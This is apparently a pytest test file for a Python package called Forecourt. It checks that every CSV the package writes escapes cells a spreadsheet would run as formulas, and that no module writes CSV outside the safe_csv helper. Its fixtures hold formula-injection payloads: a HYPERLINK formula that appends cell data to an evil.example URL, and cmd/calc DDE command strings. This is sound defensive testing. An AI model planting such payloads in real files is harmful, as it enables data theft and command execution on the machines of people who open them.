"""Formula injection (issue 8): every CSV Forecourt writes — the dealers' outbound files, the CLI's
output and reports — defuses cells a spreadsheet would run (``=``, ``+``, ``-``, ``@``…), and no
module writes CSV except through ``forecourt.safe_csv``."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pyarrow as pa
import pytest
from click.testing import CliRunner
from forecourt import analytics
from forecourt.cli import main
from forecourt.enrich import outbound
from forecourt.safe_csv import neutralize, neutralize_cell, write_csv, write_rows

ROOT = Path(__file__).parents[2]
PACKAGE_DIRS = [ROOT / "layers" / "forecourt" / "forecourt", ROOT / "functions"]
HOSTILE = Path(__file__).parents[1] / "data" / "hostile" / "formula_cells.csv"

# What writes CSV, in any library we have: the csv module, pyarrow.csv, DuckDB (COPY … FORMAT CSV,
# relation.write_csv), pandas/polars (.to_csv / .write_csv).
CSV_WRITING = re.compile(
    r"\bcsv\.(?:writer|DictWriter)\b"
    r"|\bfrom\s+csv\s+import\b[^\n]*\b(?:writer|DictWriter)\b"
    r"|\b(?!safe_csv\b)\w+\.(?:write_csv|CSVWriter|to_csv)\s*\("
    r"|\bfrom\s+pyarrow\.csv\s+import\b[^\n]*\b(?:write_csv|CSVWriter)\b"
    r"|[(,]\s*FORMAT\s+'?CSV\b"
    r"|\bCOPY\b[^\n]*\bTO\b[^\n]*\.csv\b",
    re.IGNORECASE,
)
NOT_OUR_OUTPUT = {
    "layers/forecourt/forecourt/safe_csv.py": "the neutralizer itself",
    "layers/forecourt/forecourt/local/dialects.py": "imitates a dealer system's export: ingest input, "
    "formula-like cells included on purpose",
    "layers/forecourt/forecourt/local/bulk_leads.py": "imitates a dealer system's bulk export: ingest input",
}

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    "+",
    "-",
]
HARMLESS = ["+13125550181", "-12.50", "+1 (312) 555-0181", "Ann", "", "a=b", "3-4"]


def _writers_in_package() -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    for folder in PACKAGE_DIRS:
        for path in sorted(folder.rglob("*.py")):
            text = path.read_text(encoding="utf-8")
            hits = [m.group(0) for m in CSV_WRITING.finditer(text)]
            if hits:
                found[path.relative_to(ROOT).as_posix()] = hits
    return found


def test_no_module_writes_csv_except_through_safe_csv() -> None:
    writers = _writers_in_package()
    unguarded = {path: hits for path, hits in writers.items() if path not in NOT_OUR_OUTPUT}
    assert unguarded == {}, "write CSV with forecourt.safe_csv.write_csv / write_rows"
    # an exemption that no longer writes CSV is dropped, so that it cannot cover a new writer
    assert sorted(writers) == sorted(NOT_OUR_OUTPUT)


@pytest.mark.parametrize(
    "line",
    [
        "import csv\nw = csv.writer(out)",
        "from csv import DictWriter",
        "import pyarrow.csv as pacsv\npacsv.write_csv(t, sink)",
        "pyarrow.csv.write_csv(t, 'x.csv')",
        "from pyarrow.csv import CSVWriter",
        "con.execute(\"COPY leads TO 'x.csv' (FORMAT CSV, HEADER)\")",
        "rel.write_csv('x.csv')",
        "duckdb.sql(\"COPY (SELECT 1) TO 'out.csv'\")",
        "frame.to_csv('x.csv')",
    ],
)
def test_the_guard_sees_every_kind_of_csv_writer(line: str) -> None:
    assert CSV_WRITING.search(line)


def test_the_guard_lets_safe_csv_and_csv_readers_be() -> None:
    text = "from forecourt.safe_csv import write_csv\nwrite_csv(t, out)\nsafe_csv.write_csv(t, out)\n"
    text += "csv.reader(lines)\npacsv.read_csv(path)\npacsv.open_csv(path)\n"
    assert CSV_WRITING.search(text) is None


def test_a_cell_and_a_column_are_defused_alike() -> None:
    column = neutralize(pa.array([*ATTACKS, *HARMLESS, None])).to_pylist()
    cells = [neutralize_cell(value) for value in [*ATTACKS, *HARMLESS, None]]
    assert column == cells
    assert cells[: len(ATTACKS)] == [f"'{value}" for value in ATTACKS]
    assert cells[len(ATTACKS) :] == [*HARMLESS, None]
    assert [neutralize_cell(value) for value in (-5, 2.5, True)] == [-5, 2.5, True]


def _hostile_rows() -> list[dict[str, str]]:
    with HOSTILE.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_write_csv_defuses_the_hostile_cells(tmp_path: Path) -> None:
    rows = _hostile_rows()
    table = pa.table({name: [row[name] for row in rows] for name in rows[0]})
    write_csv(table, tmp_path / "out.csv")
    sink = io.BytesIO()
    write_csv(table, sink)
    assert (tmp_path / "out.csv").read_bytes() == sink.getvalue()
    written = list(csv.DictReader(io.StringIO(sink.getvalue().decode("utf-8"))))
    assert [r["comments"] for r in written] == ["'=1+2", "'+A1*2", "'-A1", "'@SUM(A1:A2)", "plain"]
    assert [r["Phone Number"] for r in written] == [r["Phone Number"] for r in rows]  # phones keep their sign


def test_query_csv_output_defuses_formulas(monkeypatch: pytest.MonkeyPatch) -> None:
    real = analytics.run_query
    monkeypatch.setattr("forecourt.cli.data._connect", lambda: None)  # no lake tables are read
    monkeypatch.setattr(analytics, "run_query", lambda sql, max_rows: real(sql, {}, max_rows=max_rows))
    sql = "SELECT '=HYPERLINK(''http://x'')' AS \"=cmd\", '+1 (312) 555-0181' AS phone, -3 AS n, '@A1' AS a"
    answer = CliRunner().invoke(main, ["query", "--format", "csv", sql])
    assert answer.exit_code == 0, answer.output
    assert list(csv.reader(io.StringIO(answer.output))) == [
        ["'=cmd", "phone", "n", "a"],
        ["'=HYPERLINK('http://x')", "+1 (312) 555-0181", "-3", "'@A1"],
    ]


def test_write_rows_keeps_what_is_not_text() -> None:
    out = io.StringIO()
    write_rows(["a", "b"], [[None, -1.5], ["-x", 7]], out)
    assert out.getvalue() == "a,b\r\n,-1.5\r\n'-x,7\r\n"


def test_the_dealers_outbound_csv_defuses_formulas() -> None:
    rows = _hostile_rows()
    columns = {name: pa.array([None] * len(rows), pa.string()) for name in outbound.CSV_COLUMNS}
    leads = pa.table(
        {
            **columns,
            "first_name": [r["first_name"] for r in rows],
            "comments": [r["comments"] for r in rows],
            "mobile_phone": [r["Phone Number"] for r in rows],
            "phone": pa.array([None] * len(rows), pa.string()),
            "alternate_phone": pa.array([None] * len(rows), pa.string()),
            "tags": pa.array([["=x", "ok"]] * len(rows), pa.list_(pa.string())),
        }
    )
    written = list(csv.DictReader(io.StringIO(outbound.csv_bytes(leads, [True] * len(rows)).decode())))
    assert [r["first_name"] for r in written] == ["'=cmd|'/C calc'!A0", "Ann", "Bo", "'@Cy", "Di"]
    assert [r["phone"] for r in written] == [r["Phone Number"] for r in rows]
    assert {r["tags"] for r in written} == {"'=x;ok"}
